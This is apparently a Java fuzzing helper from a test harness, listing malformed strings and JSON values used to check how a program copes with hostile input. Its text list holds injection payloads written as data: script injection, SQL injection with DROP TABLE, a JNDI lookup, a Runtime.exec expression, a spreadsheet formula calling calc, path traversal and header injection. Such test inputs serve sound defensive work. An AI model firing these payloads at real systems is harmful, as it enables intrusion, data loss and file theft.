package io.countersign.bench.hostile;

import java.util.List;
import java.util.Random;

/** Values that programs fall over, as texts and as they stand in JSON. */
final class Nasty {
  /** What a file would be called that got out of an archive or a path. */
  static final String CANARY = "countersign-canary";

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "\ud800",
          "\u202Eevil",
          "\uFEFF",
          "😀".repeat(300),
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "=cmd|'/c calc'!A0",
          "+1+1",
          "-1+1",
          "@SUM(1)",
          "\t=1",
          "' OR '1'='1",
          "\"; DROP TABLE event; --",
          "${jndi:ldap://192.0.2.1/x}",
          "http://192.0.2.1/x.png",
          "#{T(java.lang.Runtime).getRuntime().exec('x')}",
          "../../../../../../../../tmp/" + CANARY,
          "/tmp/" + CANARY,
          "..\\..\\" + CANARY,
          "file:///etc/passwd",
          "%n%n%n%s%d",
          "{{7*7}}",
          "$gt",
          "a.b.$c",
          "__proto__",
          "null",
          "true",
          "NaN",
          "-0",
          "9223372036854775808",
          "1e308",
          "+999999999-12-31T23:59:59.999999999Z",
          "-1000000000-01-01T00:00:00Z",
          "2026-02-30T00:00:00Z",
          "9999-12-31T23:59:59Z",
          "PT2562047788015H",
          "-PT1S",
          "P999999999D",
          "Europe/Nowhere",
          "UTC+18:00",
          "24:00",
          "application/json; charset=klingon",
          "x".repeat(5_000),
          "../..",
          ".",
          "..",
          "%2e%2e%2f",
          "\r\nX-Injected: 1",
          "ACCEPTED",
          "01ARZ3NDEKTSV4RRFFQ69G5FAV",
          "djE6", // what a page's next begins with
          "djE6eA",
          "djE6LTE",
          "djE6OTk5OTk5OTk5OTk5OTk5OTk5OTk5");

  private static final List<String> RAW =
      List.of(
          "null",
          "true",
          "false",
          "0",
          "-0",
          "-1",
          "1",
          "0.1",
          "1e400",
          "-1e400",
          "1e-400",
          "1E+2147483647",
          "2147483647",
          "2147483648",
          "9007199254740993",
          "9223372036854775807",
          "9223372036854775808",
          "9".repeat(1_100),
          "0." + "1".repeat(1_100),
          "NaN",
          "Infinity",
          "-Infinity",
          "0x10",
          "01",
          "1.",
          ".5",
          "[]",
          "{}",
          "[[]]",
          "[null]",
          "[{}]",
          "{\"\":null}",
          "{\"a\":{\"b\":{\"c\":[1,2,3]}}}",
          "undefined",
          "'single'",
          "\"\\ud800\"",
          "\"\\u0000\"",
          "\"\\x41\"",
          "\"\\",
          "\"\t\"",
          "/* a comment */ 1",
          "[".repeat(300) + "]".repeat(300),
          "[".repeat(1_200),
          "{\"a\":".repeat(700) + "1" + "}".repeat(700));

  private final Random random;

  /**
   * @param random what is drawn with
   */
  Nasty(Random random) {
    this.random = random;
  }

  String text() {
    return TEXTS.get(random.nextInt(TEXTS.size()));
  }

  /** A value as it stands in JSON, not always one that JSON has. */
  String raw() {
    return random.nextInt(3) == 0 ? quoted(text()) : RAW.get(random.nextInt(RAW.size()));
  }

  /** A number near to what it was, or far from it. */
  String number(String was) {
    List<String> near = List.of("-" + was, was + "0", was + ".5", was + "e9", "0", "1", "2", "101");
    return near.get(random.nextInt(near.size()));
  }

  static String quoted(String text) {
    StringBuilder quoted = new StringBuilder("\"");
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c == '"' || c == '\\') {
        quoted.append('\\').append(c);
      } else if (c < ' ' || Character.isSurrogate(c)) {
        quoted.append("\\u%04x".formatted((int) c));
      } else {
        quoted.append(c);
      }
    }
    return quoted.append('"').toString();
  }
}
